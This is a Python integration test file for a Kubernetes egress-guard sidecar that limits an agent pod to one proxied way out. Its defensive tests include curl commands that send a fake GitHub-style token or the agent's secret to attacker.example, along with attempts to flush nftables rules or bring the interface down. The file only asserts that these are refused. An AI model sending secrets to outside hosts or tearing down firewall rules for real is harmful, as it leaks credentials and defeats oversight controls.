"""The sidecar form for real: the arguments of the emitted manifests, run in a pod's network.

The pod is the host of a lab of its own, which has a path to the lab's internet.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from interceptor.kubernetes.documents import parse
from interceptor.kubernetes.inject import inject
from interceptor.kubernetes.parts import PROXY_UID, Options
from interceptor.scan.ruleset import example
from netns import nft
from netns.trust import variables
from tests.lab import Lab
from tests.lab.programs import JAIL_ENVIRONMENT
from tests.lab.world import ATTACKER, DEV_UID, HOST_V4, RESOLVER_V4
from tests.pure.serve.test_proxy_agents import ISSUER, claims, jwks, jwt

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

PROGRAM = [sys.executable, "-m", "interceptor.cli.main"]
OWN = secrets.token_hex(16)
"""The agent's own secret, of no format that a rule knows."""
ATTEMPTS = str(Path(__file__).with_name("attempts.py"))
HOME = "/run/pod"
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: work}
spec:
  containers:
  - name: main
    image: example.com/agent:1
    env: [{name: ACME_TOKEN, valueFrom: {secretKeyRef: {name: keys, key: acme}}}]
"""
SHOW = ["nft", "list", "table", "inet", "egressguard_pod"]


@pytest.fixture(scope="module")
def pod() -> Iterator[Lab]:
    """A lab whose host is the pod; its rules stay until it ends."""
    if reason := Lab.missing():
        if os.environ.get("EGRESSGUARD_REQUIRE_LAB") == "1":
            pytest.fail(reason)
        pytest.skip(reason)
    with Lab() as lab:
        lab.path(HOME).mkdir()
        for name in ("etc", "trust", "authority"):
            folder = lab.path(HOME) / name
            folder.mkdir()
            os.chown(folder, PROXY_UID, PROXY_UID)
        yield lab


def spec(form: str, **more: Any) -> list[dict[str, Any]]:
    """Every object of an injection."""
    options = Options(image="e:1", policy="version: 1\n", issuer=ISSUER, agent_uid=DEV_UID, **more)
    done = inject(POD, "pod.yaml", form=form, namespace="x", options=options, trust=variables())
    return [each.data for each in parse(done.text, "out")]


def container(objects: list[dict[str, Any]], name: str) -> tuple[list[str], dict[str, Any]]:
    """Arguments, with the lab's paths in place of a container's, and the security context."""
    made = _named(objects, name)
    return [_placed(word) for word in made["args"]], made["securityContext"]


def environment(objects: list[dict[str, Any]], name: str) -> dict[str, str]:
    """Variables of a container, as the kubelet resolves them, and what a checkout needs."""
    entries = _named(objects, name).get("env", ())
    return {each["name"]: each.get("value", OWN) for each in entries} | JAIL_ENVIRONMENT


def _named(objects: list[dict[str, Any]], name: str) -> dict[str, Any]:
    pods = [each.get("spec", {}).get("template", each) for each in objects]
    for each in pods:
        inner = each.get("spec", {})
        for made in [*inner.get("initContainers", ()), *inner.get("containers", ())]:
            if made["name"] == name:
                return dict(made)
    raise AssertionError(name)


def _placed(word: str) -> str:
    for inside, outside in (
        ("/run/egressguard/authority", f"{HOME}/authority"),
        ("/run/egressguard/trust", f"{HOME}/trust"),
        ("/run/egressguard/token", HOME),
        ("/run/authority", f"{HOME}/ca"),
        ("/etc/egressguard-keys", HOME),
        ("/etc/egressguard", f"{HOME}/etc"),
        ("$(AGENT_EGRESSGUARD_SERVICE_HOST)", "127.0.0.1"),
        ("--evidence=-", f"--evidence={HOME}/authority/evidence.jsonl"),
    ):
        word = word.replace(inside, outside)
    return word


def confined(context: dict[str, Any]) -> list[str]:
    """What a container engine makes of a security context."""
    capabilities = context["capabilities"]
    assert capabilities["drop"] == ["ALL"]
    assert context["allowPrivilegeEscalation"] is False
    added = "".join(f",+{each.lower()}" for each in capabilities.get("add", ()))
    uid = str(context["runAsUser"])
    words = ["setpriv", "--no-new-privs", f"--bounding-set=-all{added}", "--inh-caps=-all"]
    return [*words, "--clear-groups", "--reuid", uid, "--regid", uid]


def as_agent(lab: Lab, *words: str) -> subprocess.CompletedProcess[bytes]:
    *_, agent = spec("sidecar")
    context = agent["spec"]["containers"][0]["securityContext"]
    return lab.run([*confined(context), *words], timeout=60)


def curl(lab: Lab, *words: str, ca: str = f"{HOME}/trust/ca.crt") -> tuple[int, str]:
    argv = ["curl", "-sS", "--max-time", "20", "-w", "\n%{http_code}", "--cacert", ca, *words]
    content, _, code = as_agent(lab, *argv).stdout.decode().rpartition("\n")
    return int(code), content


def attempt(lab: Lab) -> dict[str, str]:
    done = as_agent(lab, sys.executable, ATTEMPTS, *ATTACKER, RESOLVER_V4)
    assert done.returncode == 0, done.stderr
    found: dict[str, str] = json.loads(done.stdout)
    return found


def same_port(lab: Lab, uid: int, port: int) -> str:
    """Send a datagram from a port, as a uid."""
    code = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
        f"s.bind(('', {port})); s.sendto(b'from uid {uid}', ('{ATTACKER[0]}', 7000))"
    )
    argv = ["setpriv", "--clear-groups", "--reuid", str(uid), "--regid", str(uid)]
    done = lab.run([*argv, sys.executable, "-c", code])
    return done.stderr.decode().strip().rpartition("\n")[2]


@contextlib.contextmanager
def sidecar(lab: Lab) -> Iterator[subprocess.Popen[bytes]]:
    objects = spec("sidecar")
    (lab.path(HOME) / "etc/egressguard.yaml").write_text(objects[0]["data"]["egressguard.yaml"])
    words, context = container(objects, "egressguard")
    certificate = lab.path(f"{HOME}/trust/ca.crt")
    certificate.unlink(missing_ok=True)
    argv = [*confined(context), *PROGRAM, *words]
    with lab.popen(argv, env=environment(objects, "egressguard")) as program:
        try:
            _await(program, certificate.exists)
            yield program
        finally:
            program.kill()


def _await(program: subprocess.Popen[bytes], ready: Any) -> None:
    end = time.monotonic() + 60
    while not ready():
        assert program.poll() is None, program.communicate()
        assert time.monotonic() < end
        time.sleep(0.02)


def run_rules(
    lab: Lab, *, ingress: bool = False, **changed: Any
) -> subprocess.CompletedProcess[bytes]:
    words, context = container(spec("sidecar", ingress=ingress), "egressguard-rules")
    return lab.run([*confined(context | changed), *PROGRAM, *words], env=JAIL_ENVIRONMENT)


def test_the_pod_has_one_way_out(pod: Lab) -> None:
    lab = pod
    # The control: without the rules an agent reaches the world.
    lab.clear()
    free = attempt(lab)
    assert free[f"tcp {ATTACKER[0]} 443"] == free[f"udp {ATTACKER[1]} 50000"] == "sent", free
    for link in ("STREAM 443", "DGRAM 50000"):
        assert free[f"by link SOCK_{link}"] == "sent", free
    assert {(each.protocol, each.family) for each in lab.oracle.records()} >= {
        ("tcp", 4), ("tcp", 6), ("udp", 4), ("udp", 6)
    }  # fmt: skip

    # An init container without the capability fails, and so the pod does not start.
    done = run_rules(lab, capabilities={"drop": ["ALL"]})
    assert done.returncode == 125, done.stderr
    assert b"could not be written" in done.stderr
    done = run_rules(lab)
    assert (done.returncode, done.stdout) == (0, b""), done.stderr
    assert f"leads to uid {PROXY_UID} and nowhere else" in done.stderr.decode()
    again = run_rules(lab)  # a container that the kubelet starts again
    assert again.returncode == 0, again.stderr

    # Before there is a sidecar: nothing, and at once.
    lab.clear()
    before = attempt(lab)
    assert not _slow(before), before
    assert lab.oracle.records() == []
    assert lab.dns_log() == []

    with sidecar(lab) as program:
        assert curl(lab, "https://example.com/get")[0] == 200
        assert curl(lab, "-4", "http://example.com/get")[0] == 200
        assert curl(lab, "-6", "https://example.com/get")[0] == 200
        assert len(lab.requests("example.com")) == 3
        secret = example(["gh", "p_", "{alnum:30}", "{crc32:6}"], "pod").decode()
        status, content = curl(lab, "https://attacker.example/up", "-d", f"text={secret}")
        assert (status, json.loads(content)["reason"]) == (403, "secret")
        # The agent's own, of which the sidecar has heard by its Secret.
        status, content = curl(lab, f"https://attacker.example/?d={OWN}")
        assert (status, json.loads(content)["reason"]) == (403, "secret")
        status, content = curl(lab, "http://lan.inward.example/")
        assert (status, json.loads(content)["reason"]) == (403, "address_private")
        held = attempt(lab)
        assert not _slow(held), held
        assert held["ping"] != "sent"
        assert all(held[f"udp {address} 443"] != "sent" for address in ATTACKER)
        records = [each for each in lab.oracle.records() if b"marker" in each.data]
        assert (records, lab.requests("attacker.example")) == ([], [])
        assert not any("attacker" in each.name for each in lab.dns_log())

        # The port of a datagram that the sidecar's uid has sent is nobody's way.
        assert same_port(lab, PROXY_UID, 40_000) == ""
        assert lab.oracle.wait_for(ATTACKER[0], 7000, data=b"from uid %d" % PROXY_UID)
        assert "PermissionError" in same_port(lab, DEV_UID, 40_000)
        assert lab.oracle.wait_for(data=b"from uid %d" % DEV_UID, timeout=0.5) == []

        # Rights: the rules' own process is gone, and neither the agent nor the sidecar has any.
        shown = lab.run(SHOW).stdout
        assert str(nft.TCP_PORT).encode() in shown
        for words in (["nft", "flush", "ruleset"], ["ip", "link", "set", "eth0", "down"]):
            for uid in (DEV_UID, PROXY_UID):
                argv = confined({"runAsUser": uid, **_CONTEXT})
                assert lab.run([*argv, *words]).returncode != 0
        assert b"hook postrouting" in lab.run(SHOW).stdout
        rights = Path(f"/proc/{_worker(lab)}/status").read_text()
        assert "CapEff:\t0000000000000000" in rights
        assert "NoNewPrivs:\t1" in rights

        program.send_signal(signal.SIGTERM)
        _, errors = program.communicate(timeout=30)
        assert program.returncode == 0, errors
    events = lab.evidence(f"{HOME}/authority/evidence.jsonl")
    assert (events[0]["event"], events[-1]["event"]) == ("started", "stopped")
    assert {each["jail"] for each in events} == {"agent"}
    assert events[0]["secrets"] == ["ACME_TOKEN"]
    assert not any(each in json.dumps(events) for each in (secret, OWN))

    # Without it: refused, and silent.
    lab.clear()
    assert curl(lab, "https://example.com/get")[0] == 0
    attempt(lab)
    assert lab.oracle.records() == []
    # The same authority when the kubelet starts it again.
    authority = lab.path(f"{HOME}/trust/ca.crt").read_bytes()
    with sidecar(lab) as program:
        assert lab.path(f"{HOME}/trust/ca.crt").read_bytes() == authority
        os.kill(_worker(lab), signal.SIGKILL)
        assert program.wait(30) == 125
        assert curl(lab, "https://example.com/get")[0] == 0


_CONTEXT = {"capabilities": {"drop": ["ALL"]}, "allowPrivilegeEscalation": False}


def _slow(found: dict[str, str]) -> list[str]:
    """What was not refused at once; a socket bound to a link is let down by its routing."""
    return [name for name, came in found.items() if came == "timeout" and "by link" not in name]


def _worker(lab: Lab) -> int:
    """The process that serves: the youngest of the sidecar's."""
    found = [each.pid for each in lab.processes() if _uid(each.pid) == PROXY_UID]
    return max(found)


def _uid(pid: int) -> int:
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    return -1


def test_who_may_connect_to_the_pod(pod: Lab) -> None:
    """Nobody where its manifest has no probe; then those whom the NetworkPolicy lets in."""
    lab = pod
    *_, agent = spec("sidecar")
    context = agent["spec"]["containers"][0]["securityContext"]
    served = [sys.executable, "-m", "http.server", "9000", "--bind", "0.0.0.0", "-d", HOME]
    probe = ["curl", "-sS", "-o", "/dev/null", "--max-time", "2"]
    with lab.popen([*confined(context), *served]) as server:
        _await(server, lambda: lab.run([*probe, "http://127.0.0.1:9000/"]).returncode == 0)
        for ingress, expected in ((True, 0), (False, 28), (True, 0)):
            done = run_rules(lab, ingress=ingress)
            assert done.returncode == 0, done.stderr
            came = lab.run([*probe, f"http://{HOST_V4}:9000/"], where="internet")
            assert came.returncode == expected, came.stderr
            # Itself it reaches.
            assert as_agent(lab, *probe, f"http://{HOST_V4}:9000/").returncode == 0
        # And the agent that answers still has no way of its own.
        lab.clear()
        attempt(lab)
        assert lab.oracle.records() == []
        server.kill()


def test_wrong_usage_of_what_runs_in_a_pod(pod: Lab) -> None:
    words, _ = container(spec("sidecar"), "egressguard")
    (pod.path(HOME) / "etc/egressguard.yaml").write_text("version: 1\n")
    done = pod.run([*PROGRAM, *words], env=JAIL_ENVIRONMENT)
    assert (done.returncode, b"must not be root" in done.stderr) == (125, True), done.stderr
    done = pod.run([*PROGRAM, "k8s", "pod-rules", "--uid", "0"], env=JAIL_ENVIRONMENT)
    assert (done.returncode, b"not the uid" in done.stderr) == (2, True), done.stderr


def test_the_arguments_of_the_companion_form(clean_lab: Lab) -> None:
    """Proxy and bridge as emitted: a token of the agent's account is let in, another is not."""
    lab = clean_lab
    objects = spec("companion")
    configuration = objects[0]["data"]
    folder = lab.path(HOME)
    account = "system:serviceaccount:work:agent-egressguard-agent"
    body = claims(sub=account, exp=time.time() + 600, nbf=0, **{"kubernetes.io": _POD_CLAIM})
    folder.mkdir(exist_ok=True)
    for name in ("etc", "authority", "ca"):
        (folder / name).mkdir(exist_ok=True)
    for name, data in configuration.items():
        (folder / "etc" / name).write_text(data)
    (folder / "jwks.json").write_bytes(jwks())
    (folder / "token").write_bytes(jwt(body))
    for path in (folder, *folder.iterdir()):
        os.chown(path, PROXY_UID, PROXY_UID)
    with contextlib.ExitStack() as stack:
        for name in ("proxy", "egressguard-bridge"):
            words, context = container(objects, name)
            program = stack.enter_context(
                lab.popen([*confined(context), *PROGRAM, *words], env=environment(objects, name))
            )
            stack.callback(program.kill)
            port = "8888" if name == "proxy" else "18888"
            probe = ["curl", "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/"]
            _await(program, lambda probe=probe: lab.run(probe, user="dev").returncode == 0)
        agent = environment(objects, "main")
        led = ("-x", agent["HTTPS_PROXY"])
        ca = f"{HOME}/ca/ca.crt"
        assert curl(lab, *led, "https://example.com/get", ca=ca)[0] == 200
        status, content = curl(lab, *led, f"https://attacker.example/?d={OWN}", ca=ca)
        assert (status, json.loads(content)["reason"]) == (403, "secret")
        assert curl(lab, "-x", f"http://{HOST_V4}:8888", "http://example.com/", ca=ca)[0] == 407
        for wrong in ({"aud": ["other"]}, {"sub": "system:serviceaccount:work:default"}):
            (folder / "token").write_bytes(jwt(body | wrong))
            assert curl(lab, *led, "http://example.com/get", ca=ca)[0] == 503
    events = lab.evidence(f"{HOME}/authority/evidence.jsonl")
    allowed = [each for each in events if each.get("action") == "allow"]
    assert [each["agent"] for each in allowed] == ["agent/agent-0"]
    assert len(lab.requests()) == 1


_POD_CLAIM = {"pod": {"name": "agent-0"}}
